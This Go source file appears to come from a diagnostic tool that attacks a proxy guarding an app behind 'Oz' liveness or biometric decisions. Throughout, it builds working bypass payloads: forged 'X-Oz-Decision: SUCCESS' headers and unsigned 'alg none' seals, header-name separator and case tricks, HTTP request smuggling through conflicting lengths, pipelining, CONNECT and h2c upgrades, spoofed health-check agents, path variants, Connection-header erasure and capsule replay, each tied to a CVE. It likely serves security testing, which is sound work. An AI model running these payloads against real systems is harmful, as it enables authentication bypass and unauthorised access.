package diagnose

import (
	"bytes"
	"compress/gzip"
	"crypto/rand"
	"encoding/base64"
	"fmt"
	"net/http"
	"strings"
)

// row is one kind of attack that software of this kind has fallen to.
type row struct {
	name     string
	advisory string // one by which to look it up, if there is one
	probes   func(a *attack) []probe
}

// rowTable are all rows. Those that need no genuine capsule come first.
var rowTable = []row{
	{"forged decision", "CVE-2026-30851", (*attack).forgedDecisions},
	{"forged seal", "", (*attack).forgedSeals},
	{"case of a name", "CVE-2025-64484", (*attack).cases},
	{"underscore in a name", "GHSA-f59h-q822-g45g", (*attack).underscores},
	{"dot in a name", "CVE-2026-88011", (*attack).dots},
	{"other separators", "CVE-2026-88011", (*attack).separators},
	{"several lines", "CVE-2020-25017", (*attack).severalLines},
	{"odd values", "CVE-2023-27488", (*attack).oddValues},
	{"header flood", "", (*attack).floods},
	{"trailers", "CVE-2025-12642", (*attack).trailers},
	{"steering headers", "CVE-2026-40575", (*attack).steering},
	{"health checks", "CVE-2026-34457", (*attack).healthChecks},
	{"spellings of the path", "CVE-2021-32637", (*attack).spellings},
	{"forged answer of Oz", "", (*attack).forgedAnswers},
	{"encoded content", "", (*attack).encodedContent},
	{"other methods", "", (*attack).otherMethods},
	{"content of a GET", "", (*attack).contentOfGet},
	{"malformed requests", "CVE-2021-32637", (*attack).malformed},
	{"lying lengths", "CVE-2026-71324", (*attack).lyingLengths},
	{"pipelined requests", "CVE-2026-10051", (*attack).pipelined},
	{"CONNECT", "CVE-2026-71324", (*attack).connects},
	{"upgrade to h2c", "h2c smuggling", (*attack).upgrades},
	{"other upgrades", "CVE-2026-55458", (*attack).otherUpgrades},
	{"replay", "", (*attack).replays},
	{"replay at once", "", (*attack).replaysAtOnce},
	{"Connection, SUCCESS", "CVE-2024-45410", (*attack).erased},
	{"header flood, SUCCESS", "", (*attack).pushedOut},
	{"forged decision, DECLINED", "CVE-2026-30851", (*attack).forgedOverDeclined},
	{"Connection, DECLINED", "CVE-2021-32813", (*attack).hidden},
	{"trailers, DECLINED", "CVE-2025-12642", (*attack).trailersAfterDeclined},
	{"header flood, DECLINED", "", (*attack).pushedOutDeclined},
}

const (
	forgedDecision = "X-Oz-Decision: SUCCESS"
	forgedFolder   = `{"folder_id":"0f0e0d0c-0b0a-4908-8706-050403020100","resolution_status":"FINISHED","system_resolution":"SUCCESS",` +
		`"analyses":[{"type":"QUALITY","state":"FINISHED","resolution_status":"SUCCESS","results_data":{}}]}`
	jsonType  = "Content-Type: application/json"
	octetType = "Content-Type: application/octet-stream"
)

// forgedFields are all fields of a decision.
var forgedFields = []string{
	forgedDecision, "X-Oz-Folder-Id: 0f0e0d0c-0b0a-4908-8706-050403020100", "X-Oz-Event-Session-Id: forged", "X-Oz-Resolution-Status: FINISHED",
	"X-Oz-System-Resolution: SUCCESS", "X-Oz-Quality: SUCCESS", "X-Oz-Biometry: SUCCESS",
}

// --- requests ---

func (a *attack) get(lines ...string) request {
	return request{method: http.MethodGet, target: a.opts.Path, fields: lines}
}

func (a *attack) post(body string, lines ...string) request {
	return request{method: http.MethodPost, target: a.opts.Path, fields: lines, body: []byte(body)}
}

// json returns a POST that looks like Oz's answer.
func (a *attack) json(lines ...string) request {
	return a.post(forgedFolder, append([]string{jsonType}, lines...)...)
}

// garbage returns a POST that Oz refuses as a capsule.
func (a *attack) garbage(lines ...string) request {
	return a.post(rand.Text()+rand.Text(), append([]string{octetType}, lines...)...)
}

// capsule returns the POST of a capsule. The capsule itself is put in when it is sent.
func (a *attack) capsule(lines ...string) request {
	return a.post("", append([]string{octetType}, lines...)...)
}

// aside returns a POST of JSON beside the protected path, which many apps take for that path, and a matcher does not.
func (a *attack) aside(lines ...string) request {
	r := a.json(lines...)
	r.target = a.opts.Path + "/"
	if without, has := strings.CutSuffix(a.opts.Path, "/"); has && without != "" {
		r.target = without
	}
	return r
}

// over returns a probe for each protocol that the site speaks.
func (a *attack) over(what string, r request) []probe {
	list := []probe{{what: what, request: r}}
	if a.h2 {
		list = append(list, probe{what: what, h2: true, request: r})
	}
	return list
}

// undecided sends lines where a request may reach the app without a decision: by GET, in a POST of text, and beside the path.
func (a *attack) undecided(what string, lines ...string) []probe {
	text := a.post("harmless", append([]string{"Content-Type: text/plain"}, lines...)...)
	return append(a.over(what, a.get(lines...)), probe{what: what + " in a POST", request: text}, probe{what: what + " beside the path", request: a.aside(lines...)})
}

// with returns the probes with a change.
func with(list []probe, change func(*probe)) []probe {
	for i := range list {
		change(&list[i])
	}
	return list
}

// variant is one way to write something.
type variant struct {
	what  string
	lines []string
}

func needing(kind need, list []probe) []probe {
	return with(list, func(s *probe) { s.needs = kind })
}

// --- names and values ---

func (a *attack) forgedDecisions() []probe {
	list := a.undecided("a decision that the client wrote", forgedFields...)
	list = append(list, a.over("a decision beside a capsule that Oz refuses", a.garbage(forgedFields...))...)
	return append(list, a.over("a decision beside a forged answer", a.json(forgedFields...))...)
}

func (a *attack) forgedSeals() (list []probe) {
	for _, alg := range []string{"none", "ES256", "HS256"} {
		seal := "X-Oz-Seal: " + forgedSeal(alg)
		list = append(list, a.undecided("a seal with alg "+alg, seal)...)
		list = append(list, probe{what: "a seal with alg " + alg + " beside a capsule that Oz refuses", request: a.garbage(seal)})
	}
	return list
}

// forgedSeal returns a JWS that nobody signed.
func forgedSeal(alg string) string {
	encode := base64.RawURLEncoding.EncodeToString
	signature := ""
	if alg != "none" {
		signature = encode(make([]byte, 64))
	}
	return encode([]byte(`{"alg":"`+alg+`","typ":"oz-seal+jwt","kid":"forged"}`)) + "." +
		encode([]byte(`{"iss":"oz_instant","aud":"app","decision":"SUCCESS","iat":1,"exp":9999999999,"jti":"forged"}`)) + "." + signature
}

func (a *attack) cases() (list []probe) {
	for _, name := range []string{"x-oz-decision", "X-OZ-DECISION", "x-oZ-dEcIsIoN"} {
		list = append(list, a.undecided(name, name+": SUCCESS")...)
	}
	return list
}

func (a *attack) underscores() []probe { return a.separated("_") }
func (a *attack) dots() []probe        { return a.separated(".") }

func (a *attack) separators() (list []probe) {
	for _, c := range "!#$%&'*+^`|~" {
		list = append(list, a.separated(string(c))...)
	}
	return list
}

// separated spells the names with another separator, in each place.
func (a *attack) separated(c string) []probe {
	var lines []string
	for _, name := range []string{"X/Oz/Decision", "X-Oz/Decision", "X/Oz-Decision"} {
		lines = append(lines, strings.ReplaceAll(name, "/", c)+": SUCCESS")
	}
	return a.undecided("X"+c+"Oz"+c+"Decision", lines...)
}

func (a *attack) severalLines() (list []probe) {
	for _, v := range []variant{
		{"the same line twice", []string{forgedDecision, forgedDecision}},
		{"an empty line before it", []string{"X-Oz-Decision:", forgedDecision}},
		{"another decision before it", []string{"X-Oz-Decision: DECLINED", forgedDecision}},
		{"two on one line", []string{"X-Oz-Decision: SUCCESS, SUCCESS"}},
		{"two in different cases", []string{"x-oz-decision: SUCCESS", "X-OZ-DECISION: SUCCESS"}},
		{"two with another line between", []string{forgedDecision, "Accept: */*", forgedDecision}},
	} {
		list = append(list, a.undecided(v.what, v.lines...)...)
	}
	return list
}

func (a *attack) oddValues() (list []probe) {
	long := "X-Junk: " + strings.Repeat("x", 64<<10)
	for _, v := range []variant{
		{"bytes that are no UTF-8", []string{"X-Junk: \xff\xfe\xc3\x28"}}, {"a NUL", []string{"X-Junk: a\x00b"}}, {"64 KB", []string{long}},
	} {
		lines := append(v.lines, forgedDecision)
		list = append(list, a.over(v.what+" beside a capsule that Oz refuses", a.garbage(lines...))...)
		list = append(list, a.over(v.what, a.get(lines...))...)
	}
	for _, v := range []variant{
		{"a tab around the value", []string{"X-Oz-Decision:\tSUCCESS\t"}}, {"a byte after the value", []string{"X-Oz-Decision: SUCCESS\xff"}},
		{"a placeholder", []string{"X-Oz-Decision: {http.request.header.X-Word}", "X-Word: SUCCESS"}},
	} {
		list = append(list, a.undecided(v.what, v.lines...)...)
	}
	return list
}

// flood returns n lines whose names come before ours in the alphabet, or after.
func flood(n int, before bool) (lines []string) {
	name := "Z-Flood"
	if before {
		name = "A-Flood"
	}
	for i := range n {
		lines = append(lines, fmt.Sprintf("%s-%d: x", name, i))
	}
	return lines
}

func (a *attack) floods() (list []probe) {
	for _, n := range []int{100, 990, 5000} {
		what := fmt.Sprintf("%d lines", n)
		list = append(list, a.undecided(what+" before a decision", append(flood(n, true), forgedDecision)...)...)
		list = append(list, a.undecided(what+" after a decision", append([]string{forgedDecision}, flood(n, false)...)...)...)
	}
	return list
}

// --- around the body ---

func (a *attack) trailers() (list []probe) {
	for _, r := range []request{a.get(), a.garbage(), a.aside()} {
		what := "after " + r.method + " " + r.target
		list = append(list, trailing(a.over(what, r))...)
	}
	return list
}

// trailing adds trailers, which are announced or not, and over HTTP/1.1 another request after them.
func trailing(list []probe) (all []probe) {
	for _, s := range list {
		for _, announced := range []bool{true, false} {
			s := s
			s.request.chunked = true
			s.request.trailers = []string{forgedDecision, "X_Oz_Decision: SUCCESS", "X!Oz!Decision: SUCCESS"}
			s.request.fields = append([]string{"TE: trailers"}, s.request.fields...)
			if announced {
				s.request.fields = append(s.request.fields, "Trailer: X-Oz-Decision, X_Oz_Decision, X!Oz!Decision")
			}
			all = append(all, s)
		}
	}
	return all
}

func (a *attack) steering() (list []probe) {
	for _, v := range []variant{
		{"X-Forwarded headers", []string{
			"X-Forwarded-Uri: /", "X-Forwarded-Method: GET", "X-Forwarded-Host: localhost", "X-Forwarded-Prefix: /other",
			"X-Forwarded-For: 127.0.0.1", "X-Forwarded-Proto: https", "Forwarded: for=127.0.0.1;host=localhost;proto=https",
		}},
		{"X-Original headers", []string{"X-Original-URL: /", "X-Original-URI: /", "X-Original-Method: GET", "X-Rewrite-URL: /", "X-Real-IP: 127.0.0.1"}},
		{"method override headers", []string{"X-HTTP-Method-Override: GET", "X-HTTP-Method: GET", "X-Method-Override: GET"}},
		{"headers for proxies", []string{"Proxy: http://127.0.0.1:1", "X-Accel-Redirect: /", "X-Sendfile: /"}},
	} {
		list = append(list, a.undecided(v.what+" with a decision", append(v.lines, forgedDecision)...)...)
		list = append(list, a.over(v.what+" with a forged answer", a.json(v.lines...))...)
	}
	return list
}

// healthChecks pass for somebody else by their User-Agent. Another field names the kit.
func (a *attack) healthChecks() (list []probe) {
	for _, agent := range []string{"GoogleHC/1.0", "kube-probe/1.31", "ELB-HealthChecker/2.0"} {
		lines := []string{"User-Agent: " + agent, "X-Attack-Kit: " + attackAgent}
		list = append(list, probe{what: agent + " with a forged answer", request: a.json(lines...)})
		list = append(list, a.undecided(agent+" with a decision", append(lines, forgedDecision)...)...)
	}
	return list
}

// --- instead of a capsule ---

func (a *attack) spellings() (list []probe) {
	path := a.opts.Path
	last := strings.LastIndexByte(path, '/') + 1
	dir, name := path[:last], path[last:]
	if name == "" {
		name = "x"
	}
	for _, target := range []string{
		path + "/", path + "?a=b", path + "#a", path + ";a=b", path + ".", path + "%2f", path + "%00", path + "/.", path + "/../" + name,
		dir + "/" + name, dir + "./" + name, dir + "x/../" + name, dir + fmt.Sprintf("%%%02x", name[0]) + name[1:], dir + strings.ToUpper(name),
		dir + "\\" + name, "//" + a.opts.To.Host + path, a.opts.To.Scheme + "://" + a.opts.To.Host + path,
	} {
		r := a.json(forgedDecision)
		r.target = target
		list = append(list, probe{what: "POST " + target, request: r})
	}
	return list
}

func (a *attack) forgedAnswers() (list []probe) {
	for _, lines := range [][]string{
		{jsonType}, {"Content-Type: application/json; charset=utf-8"}, {"Content-Type: application/problem+json"}, {"Content-Type: text/plain"},
		{"Content-Type: text/json"}, {"Content-Type: application/x-www-form-urlencoded"}, {"Content-Type:"}, {}, {octetType},
		{"Content-Type: application/octet-stream; a"}, {"Content-Type: application/octet-stream, application/json"},
		{"Content-Type: application/json, application/octet-stream"}, {octetType, jsonType}, {jsonType, octetType}, {octetType, "Content_Type: application/json"},
	} {
		list = append(list, a.over(strings.Join(lines, " and "), a.post(forgedFolder, lines...))...)
	}
	form := "--b\r\nContent-Disposition: form-data; name=\"folder\"\r\nContent-Type: application/json\r\n\r\n" + forgedFolder + "\r\n--b--\r\n"
	list = append(list, a.over("multipart/form-data", a.post(form, "Content-Type: multipart/form-data; boundary=b"))...)
	chunked := a.json()
	chunked.chunked = true
	list = append(list, a.over("JSON of unknown length", chunked)...)
	empty := a.json()
	empty.body = []byte{}
	return append(list, a.over("no content", empty)...)
}

func (a *attack) encodedContent() (list []probe) {
	var zipped bytes.Buffer
	w := gzip.NewWriter(&zipped)
	_, _ = w.Write([]byte(forgedFolder)) // into memory
	_ = w.Close()
	for _, mediaType := range []string{jsonType, octetType} {
		for _, coding := range []string{"gzip", "GZIP", "identity, gzip", "x-gzip"} {
			list = append(list, probe{what: coding + " with " + mediaType, request: a.post(zipped.String(), mediaType, "Content-Encoding: "+coding)})
		}
	}
	return list
}

func (a *attack) otherMethods() (list []probe) {
	for _, method := range []string{"PUT", "PATCH", "DELETE", "QUERY", "post", "Post", "PROPFIND", "X-POST", "TRACE"} {
		r := a.json(forgedDecision)
		r.method = method
		list = append(list, a.over(method+" of a forged answer", r)...)
	}
	return list
}

func (a *attack) contentOfGet() (list []probe) {
	for _, method := range []string{"GET", "OPTIONS"} {
		r := a.json()
		r.method = method
		list = append(list, a.over(method+" with a forged answer", r)...)
		r.chunked = true
		list = append(list, a.over(method+" with a forged answer of unknown length", r)...)
	}
	return list
}

// --- on the wire ---

// smuggled returns a request that must never be read as one when it comes inside of another.
func (a *attack) smuggled() string {
	r := a.json(forgedFields...)
	r.fields = append(r.fields, "Connection: keep-alive")
	return string(a.h1(r))
}

// head returns the beginning of a POST, up to the fields that say its length.
func (a *attack) head(lines ...string) string {
	return a.start("POST", a.opts.Path) + strings.Join(lines, "\r\n") + "\r\n"
}

func (a *attack) malformed() (list []probe) {
	inner, chunked := a.smuggled(), "0\r\n\r\n"
	add := func(what, text string) {
		list = append(list, probe{what: what, raw: text, expects: 3, hangs: true})
	}
	for _, f := range []variant{
		{"length and chunks", []string{fmt.Sprintf("Content-Length: %d", len(chunked)+len(inner)), "Transfer-Encoding: chunked"}},
		{"chunks and length", []string{"Transfer-Encoding: chunked", "Content-Length: 5"}},
		{"two lengths", []string{"Content-Length: 5", fmt.Sprintf("Content-Length: %d", len(chunked)+len(inner))}},
		{"a length with a sign", []string{"Content-Length: +5"}},
		{"an unknown coding", []string{"Transfer-Encoding: xchunked", "Content-Length: 5"}},
		{"two codings", []string{"Transfer-Encoding: gzip, chunked"}},
		{"chunked twice", []string{"Transfer-Encoding: chunked", "Transfer-Encoding: identity"}},
		{"a space before the colon", []string{"Transfer-Encoding : chunked", "Content-Length: 5"}},
		{"a folded line", []string{"Transfer-Encoding:", " chunked", "Content-Length: 5"}},
		{"a vertical tab", []string{"Transfer-Encoding: \vchunked", "Content-Length: 5"}},
	} {
		for _, mediaType := range []string{jsonType, octetType} {
			add(f.what+" with "+mediaType, a.head(append([]string{mediaType}, f.lines...)...)+"\r\n"+chunked+inner)
		}
	}
	for _, v := range []struct{ what, line string }{
		{"a space before the colon of a name", "X-Oz-Decision : SUCCESS"}, {"a folded decision", "X-A: b\r\n X-Oz-Decision: SUCCESS"},
		{"a line that ends in LF", "X-A: b\nX-Oz-Decision: SUCCESS"}, {"a line that ends in CR", "X-A: b\rX-Oz-Decision: SUCCESS"},
		{"a NUL in a name", "X-Oz-Decision\x00: SUCCESS"}, {"a line without a name", ": SUCCESS\r\nX-Oz-Decision: SUCCESS"},
	} {
		add(v.what, string(a.h1(a.get(v.line))))
	}
	add("HTTP/1.0 with chunks", strings.Replace(a.head(jsonType, "Transfer-Encoding: chunked"), "HTTP/1.1", "HTTP/1.0", 1)+"\r\n"+chunked+inner)
	add("HTTP/0.9", "GET "+a.opts.Path+"\r\n")
	add("no request at all", forgedFolder+"\r\n\r\n"+inner)
	add("bad chunks", a.head(octetType, "Transfer-Encoding: chunked")+"\r\n3\r\ncapsule\r\n"+inner)
	return list
}

func (a *attack) lyingLengths() (list []probe) {
	inner := a.smuggled()
	add := func(what, text string) {
		list = append(list, probe{what: what, raw: text, expects: 3, hangs: true})
	}
	for _, mediaType := range []string{jsonType, octetType} {
		add("a length of nothing with "+mediaType, a.head(mediaType, "Content-Length: 0")+"\r\n"+inner)
		add("no length with "+mediaType, a.head(mediaType)+"\r\n"+inner)
		add("too short a length with "+mediaType, a.head(mediaType, "Content-Length: 7")+"\r\ncapsule"+inner)
		add("too long a length with "+mediaType, a.head(mediaType, fmt.Sprintf("Content-Length: %d", len(forgedFolder)+10))+"\r\n"+forgedFolder)
	}
	add("a request as the content of a GET", a.start("GET", a.opts.Path)+fmt.Sprintf("Content-Length: %d\r\n\r\n", len(inner))+inner)
	return list
}

func (a *attack) pipelined() []probe {
	first, last := a.get("Connection: keep-alive"), a.get(forgedDecision)
	decided := string(a.h1(first)) + a.smuggled() + string(a.h1(last))
	trailer := first
	trailer.chunked, trailer.trailers = true, []string{forgedDecision}
	return []probe{
		{what: "a forged answer between two requests", raw: decided, expects: 3},
		{what: "a request after one with trailers", raw: string(a.h1(trailer)) + string(a.h1(a.get())), expects: 2},
	}
}

func (a *attack) connects() []probe {
	inner := a.smuggled()
	var list []probe
	for _, target := range []string{a.opts.Path, hostPort(a.opts.To.Host, "443"), "localhost:80"} {
		head := a.start("CONNECT", target)
		list = append(list,
			probe{what: "CONNECT " + target, raw: head + "\r\n" + inner, expects: 2, hangs: true},
			probe{what: "CONNECT " + target + " with content", raw: head + fmt.Sprintf("Content-Length: %d\r\n\r\n", len(inner)) + inner, expects: 2, hangs: true})
	}
	if a.h2 {
		list = append(list, probe{what: "CONNECT", h2: true, request: request{method: http.MethodConnect, target: a.opts.Path, fields: forgedFields, body: []byte(inner)}})
	}
	return list
}

const h2Settings = "HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA"

func (a *attack) upgrades() (list []probe) {
	for _, lines := range [][]string{
		{"Upgrade: h2c"}, {"Upgrade: H2C"}, {"upgrade:h2c"}, {"Upgrade: h2c, websocket"}, {"Upgrade: websocket, h2c"}, {"Upgrade: websocket", "Upgrade: h2c"},
		{"Upgrade: h2c", "Upgrade: websocket"}, {"Upgrade: , h2c"}, {"Upgrade:\th2c "}, {"Upgrade: h2c/1"},
	} {
		list = append(list, a.tunnel(a.get(), lines))
	}
	options, head := a.get(), a.get()
	options.method, head.method = http.MethodOptions, http.MethodHead
	beside := a.get()
	beside.target = a.aside().target
	for _, r := range []request{options, head, beside, a.garbage(), a.json()} {
		list = append(list, a.tunnel(r, []string{"Upgrade: h2c"}))
	}
	return list
}

// tunnel asks for an upgrade and, inside of it, to be let in.
func (a *attack) tunnel(r request, lines []string) probe {
	what := r.method + " " + r.target + " with " + strings.Join(lines, " and ")
	r.fields = append(append(r.fields, lines...), h2Settings, "Connection: Upgrade, HTTP2-Settings")
	return probe{what: what, request: r, tunnel: true}
}

func (a *attack) otherUpgrades() (list []probe) {
	for _, protocol := range []string{"TLS/1.0", "TLS/1.2, HTTP/1.1", "HTTP/2.0", "websocket", "WebSocket", "foo"} {
		r := a.get("Upgrade: "+protocol, "Connection: Upgrade", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Version: 13")
		list = append(list, probe{what: "Upgrade: " + protocol, raw: string(a.h1(r)) + a.smuggled(), expects: 2, hangs: true})
	}
	return list
}

// --- with genuine capsules ---

func (a *attack) replays() []probe {
	return needing(used, a.over("the capsule that was let in before", a.capsule()))
}

func (a *attack) replaysAtOnce() []probe {
	return []probe{{what: "one capsule from two connections", request: a.capsule(), needs: genuine, twice: true}}
}

// erasing are lines by which a proxy is told to delete the decision.
var erasing = [][]string{
	{"Connection: close, X-Oz-Decision, X-Oz-Reason, X-Oz-System-Resolution, X-Oz-Resolution-Status, X-Oz-Seal"},
	{"Connection: close, x-oz-decision, x-oz-seal"},
	{"Connection:", "Connection: close", "Connection: X-Oz-Decision", "Connection: X-Oz-Seal"},
}

func (a *attack) erased() []probe {
	return with(a.erasures(genuine)[:1], func(s *probe) { s.keeps = true })
}

func (a *attack) hidden() []probe { return a.erasures(declined) }

func (a *attack) erasures(kind need) (list []probe) {
	for _, lines := range erasing {
		list = append(list, probe{what: strings.Join(lines, " and "), request: a.capsule(lines...), needs: kind})
	}
	if a.h2 {
		list = append(list, probe{what: erasing[1][0], h2: true, request: a.capsule(erasing[1]...), needs: kind})
	}
	return list
}

func (a *attack) pushedOut() []probe {
	return []probe{{what: "1001 lines before the decision", request: a.capsule(flood(1001, true)...), needs: genuine, keeps: true}}
}

func (a *attack) pushedOutDeclined() (list []probe) {
	for _, n := range []int{101, 990, 1001} {
		list = append(list, needing(declined, a.over(fmt.Sprintf("%d lines before the decision", n), a.capsule(flood(n, true)...)))...)
	}
	return list
}

func (a *attack) forgedOverDeclined() []probe {
	lines := append([]string{}, forgedFields...)
	for _, c := range "!#$%&'*+.^_`|~" {
		lines = append(lines, fmt.Sprintf("X%cOz%cDecision: SUCCESS", c, c))
	}
	lines = append(lines, "X-Oz-Seal: "+forgedSeal("none"))
	return needing(declined, a.over("a decision that the client wrote", a.capsule(lines...)))
}

func (a *attack) trailersAfterDeclined() []probe {
	return needing(declined, trailing(a.over("after a capsule", a.capsule())))
}
